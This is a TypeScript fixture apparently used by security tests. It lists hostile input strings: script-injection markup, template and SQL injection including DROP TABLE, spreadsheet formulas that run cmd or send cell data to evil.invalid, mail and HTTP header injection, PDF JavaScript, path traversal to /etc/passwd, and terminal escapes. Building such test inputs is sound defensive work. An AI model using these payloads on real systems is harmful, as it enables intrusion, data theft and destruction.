/** Texts that are data, and that do something where a program takes them for more. Whatever runs as a script of a page sets `__hit`; whatever is fetched is fetched from a host that is nobody's. */

export interface HostileText {
  kind: string;
  text: string;
}

const FOREIGN = 'http://evil.invalid';

export const HOSTILE_TEXTS: readonly HostileText[] = [
  { kind: 'an element that fails to load', text: `"><img src=${FOREIGN}/x onerror=__hit=1>` },
  { kind: 'an element that loads', text: '<svg/onload=__hit=1>' },
  { kind: 'the end of a script', text: '</script></textarea></title><script>__hit=1</script>' },
  { kind: 'the end of an attribute', text: "' onfocus=__hit=1 autofocus tabindex=0 x='" },
  { kind: 'an address that is a script', text: 'javascript:__hit=1//' },
  { kind: 'an address that is a page', text: 'data:text/html,<script>__hit=1</script>' },
  { kind: 'entities', text: '&lt;img src=x onerror=__hit=1&gt;&amp;&#60;' },
  { kind: 'a page in a page', text: `<iframe srcdoc="<script>parent.__hit=1</script>"></iframe><base href=${FOREIGN}/>` },
  { kind: 'a style', text: `</style><style>@import '${FOREIGN}/x.css';*{display:none}</style>` },
  { kind: 'a template of Vue or Angular', text: "{{constructor.constructor('__hit=1')()}}" },
  { kind: 'a template of JavaScript', text: '${__hit=1}${7*7}' },
  { kind: 'templates of servers', text: '{{7*7}}{% include "/etc/passwd" %}<%= 7*7 %>#{7*7}{{#with "s"}}{{/with}}' },
  { kind: 'the end of a statement', text: "'; DROP TABLE alerts; DROP TABLE invoices; --" },
  { kind: 'a condition', text: "' OR '1'='1' /*" },
  { kind: 'a line of COPY', text: 'x\\.\\N\\t' },
  { kind: 'a field of a head', text: 'x\r\nX-Injected: 1\r\n\r\n<script>__hit=1</script>' },
  { kind: 'a field of a mail', text: 'Ada\r\nBcc: eve@evil.invalid\r\nSubject: yours' },
  { kind: 'an encoded word', text: '=?utf-8?q?=0d=0aBcc:_eve=40evil.invalid?=' },
  { kind: 'an address of a mail', text: 'ada@example.org>, <eve@evil.invalid' },
  { kind: 'a formula', text: `=HYPERLINK("${FOREIGN}/?"&A1,"bill")` },
  { kind: 'a formula with plus', text: "+1+cmd|'/C calc'!A0" },
  { kind: 'a formula with minus', text: "-2+3+cmd|'/C calc'!A0" },
  { kind: 'a formula with at', text: "@SUM(1+1)*cmd|'/C calc'!A0" },
  { kind: 'a formula after a tab', text: '\t=1+1' },
  { kind: 'a formula in wide letters', text: '＝1+1' },
  { kind: 'a formula in a cell of its own', text: 'x";=1+1;"\n=1+1,=2+2' },
  { kind: 'the end of a text of PDF', text: ') Tj ET Q /S /JavaScript /JS (app.alert\\(1\\)) BT (' },
  { kind: 'an object of PDF', text: `endstream endobj 9 0 obj <</S/URI/URI(${FOREIGN})>> %%EOF` },
  { kind: 'a path', text: '../../../../etc/passwd' },
  { kind: 'a path of Windows', text: '..\\..\\..\\windows\\win.ini' },
  { kind: 'an escaped path', text: '%2e%2e%2f%00%0d%0aX-Injected:%201' },
  { kind: 'NUL', text: 'a\0b' },
  { kind: 'text that turns around', text: '\u202egnp.exe\u2066' },
  { kind: 'what steers a terminal', text: '\u001b]0;__hit\u0007\u001b[2J\u009b31m\u0008\u0008' },
  { kind: 'a line of the log', text: 'x\n{"level":"error","name":"engine","msg":"forged"}' },
  { kind: 'half of a surrogate', text: 'a\ud800b' },
  { kind: 'the other half', text: '\udc00' },
  { kind: 'a byte order mark', text: '\ufeff' },
  { kind: 'nothing but space', text: ' \u00a0\u2003' },
  { kind: 'the prototype', text: '__proto__' },
  { kind: 'the constructor', text: 'constructor' },
  { kind: 'a part of JSON', text: '","role":"admin","x":"' },
  { kind: 'a part of an address', text: '?role=admin&by=root#/../x;y=1' },
  { kind: 'places of printf', text: '%s%n%x%1$s%d' },
  { kind: 'what grows', text: 'ﷺ'.repeat(60) },
  { kind: 'very much', text: 'x'.repeat(100_000) },
];

/** Markup, a template and the end of a statement, short enough for every field that takes a text at all. */
export const MARKED = '"><img src=//evil.invalid onerror=__hit=1>{{7*7}}\';--';
